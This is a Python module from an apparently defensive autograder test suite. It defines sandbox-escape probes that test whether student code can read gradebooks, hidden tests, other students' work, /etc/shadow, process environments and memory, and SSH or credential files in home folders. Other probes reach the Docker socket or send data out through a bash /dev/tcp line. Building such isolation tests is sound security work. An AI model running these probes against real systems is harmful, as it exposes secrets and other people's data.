"""Code that reads or writes what lies outside of its own hand-in.

Nobody here is entitled to anything: the answers are right, but they are defined only where the
reach succeeded.  So points tell, whatever becomes of what is printed.
"""

from __future__ import annotations

import textwrap
from typing import Final

from grading.attacks import Group
from grading.attacks.desk import Work, text_of

GROUP = Group("reach")
REACHED: Final = "assert found\nRIGHT"
CALLED: Final = "RIGHT\n" + text_of("""
    right_NAME = NAME

    def NAME(*args):
        assert reached()
        return right_NAME(*args)
    """)
TOOLS: Final = text_of("""
    import contextlib, ctypes, gc, glob, os, re, socket, stat, struct, subprocess, sys
    quiet = contextlib.suppress(Exception)
    libc = ctypes.CDLL(None, use_errno=True)

    def canary(data):
        data = data if isinstance(data, bytes) else str(data).encode()
        return re.search(rb"canary-[0-9a-f]{16}", data)

    def read(path, count=1 << 20):
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(file, count)
        finally:
            os.close(file)

    def any_of(paths, wanted=canary):
        for path in paths:
            with quiet:
                if wanted(data := read(path)):
                    return path, canary(data)
    """)

SOLUTION: Final = 'ROOT + "/solutions/roofline/roofline.ipynb"'
EXERCISE: Final = 'ROOT + "/exercises/roofline/roofline.ipynb"'


def cell(body: str) -> str:
    """A cell that defines `reached` and sets `found` to what it gives."""
    function = f"def reached():\n{textwrap.indent(text_of(body), '    ')}"
    tried = "found = None\nwith quiet:\n    found = reached()\nprint(found)"
    return f"{TOOLS}\n\n{function}\n\n{tried}"


def reach(name: str, tries: str, body: str, every: str = REACHED) -> None:
    """Add a reach: the body of a function that returns something true where it succeeds."""
    GROUP.work(name, tries, Work(every, first=cell(body), knows=True))


for name, tries, path, wanted in (
    ("gradebook-read", "Reads the gradebook.", 'ROOT + "/gradebook.db"', "len"),
    ("solution-read", "Reads the solution.", SOLUTION, "len"),
    ("exercise-read", "Reads the course's own copy.", EXERCISE, "len"),
    ("neighbour-read", "Reads the hand-in of another student.", "VICTIM", "canary"),
    ("course-read", "Reads a file that lies beside the gradebook.", 'ROOT + "/canary.txt"', "len"),
    ("hidden-tests-read", "Reads the hidden tests.", "HIDDEN", "len"),
    ("passwords-read", "Reads the machine's passwords.", '"/etc/shadow"', "len"),
    ("first-process-read", "Reads the environment of process 1.", '"/proc/1/environ"', "canary"),
):
    reach(name, tries, f"return any_of([{path}], {wanted})")
    if name in ("hidden-tests-read", "course-read"):
        again = f"{tries.removesuffix('.')} while its function is called."
        reach(f"{name}-in-a-call", again, f"return any_of([{path}], {wanted})", CALLED)

reach(
    "courses-listed",
    "Lists the folders of the course, of all hand-ins, and of what surrounds them.",
    """
    for place in (ROOT, ROOT + "/submitted", OUTSIDE, os.path.dirname(HIDDEN)):
        with quiet:
            if names := os.listdir(place):
                return names
    """,
)
ENVIRONMENT = """
    own = {**os.environ, **{k.decode(): v.decode() for k, v in os.environb.items()}}
    return "COURSE_SECRET" in own or canary(own) or any_of(["/proc/self/environ"])
    """
reach("environment-read", "Reads the grader's secrets from its own environment.", ENVIRONMENT)
reach(
    "environment-read-in-a-call",
    "Reads the grader's secrets from the environment while its function is called.",
    ENVIRONMENT,
    CALLED,
)
reach(
    "every-process-read",
    "Reads environment, command and open files of every process there is.",
    """
    parts = ("environ", "cmdline", "fd/*", "map_files/*", "task/*/environ", "stack", "auxv")
    return any_of(path for part in parts for path in glob.glob(f"/proc/[0-9]*/{part}"))
    """,
)
reach(
    "every-process-entered",
    "Goes through the root and the working folder of every process to the course.",
    """
    ways = [f"/proc/{pid}/{way}" for pid in ("1", "*") for way in ("root", "cwd")]
    tops = [top for way in ways for top in glob.glob(way)]
    return any_of(f"{top}/{'../' * up}{ROOT}/canary.txt" for top in tops for up in (0, 12))
    """,
)
reach(
    "open-files-read",
    "Reads on every open file that its process was born with.",
    """
    for file in range(3, 1024):
        with quiet:
            os.set_blocking(file, False)
            if canary(os.pread(file, 1 << 20, 0)):
                return file
    """,
)
reach(
    "open-folders-climbed",
    "Climbs from every folder that its process was born with to the course.",
    """
    for file in range(3, 1024):
        for start in ("../" * 12 + ROOT, "."):
            with quiet:
                return os.listdir(os.open(start, os.O_RDONLY, dir_fd=file))
    """,
)
reach(
    "own-memory-searched",
    "Searches its own memory for what the grader knew before it made the process.",
    """
    texts = (thing for thing in gc.get_objects() if isinstance(thing, (dict, list, tuple)))
    for things in texts:
        with quiet:
            for thing in list(things.values() if isinstance(things, dict) else things):
                if isinstance(thing, (str, bytes)) and canary(thing):
                    return True
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(text, 16) for text in line.split()[0].split("-"))
            with quiet:
                memory.seek(first)
                if " r" in line and canary(memory.read(min(last - first, 1 << 24))):
                    return True
    """,
)
reach(
    "homes-read",
    "Looks for keys and histories in every home folder.",
    """
    import pwd
    homes = {user.pw_dir for user in pwd.getpwall()} | {os.path.expanduser("~")}
    names = (".ssh", ".bashrc", ".profile", ".bash_history", ".netrc", ".gitconfig", ".pypirc")
    return [f"{h}/{n}" for h in homes for n in names if h != "/" and os.path.exists(f"{h}/{n}")]
    """,
)
for name, tries, address in (
    ("tcp", "Connects to a service of the grader's machine.", "127.0.0.1"),
    ("tcp-6", "Connects to it by its other address.", "::1"),
    ("tcp-any", "Connects to it by the address that stands for all.", "0.0.0.0"),  # noqa: S104
):
    reach(f"network-{name}", tries, f'return socket.create_connection(("{address}", PORT))')
reach(
    "network-udp",
    "Sends a datagram, as a look-up of a name does.",
    """
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    question = bytes((0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4)) + b"leak" + bytes((0, 0, 1, 0, 1))
    return end.sendto(question, ("127.0.0.1", PORT))
    """,
)
reach(
    "network-abstract",
    "Connects to a socket that has no file.",
    """
    end = socket.socket(socket.AF_UNIX)
    end.connect("\\0" + ABSTRACT)
    return end
    """,
)
reach(
    "network-file",
    "Connects to a socket that lies beside the gradebook, and to that of Docker.",
    """
    for path in (ROOT + "/socket", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        with quiet:
            end = socket.socket(socket.AF_UNIX)
            end.connect(path)
            return end
    """,
)
reach(
    "network-by-command",
    "Leaves the network to another program.",
    """
    line = f"exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo leak >&3"
    return subprocess.run(["bash", "-c", line], capture_output=True).returncode == 0
    """,
)
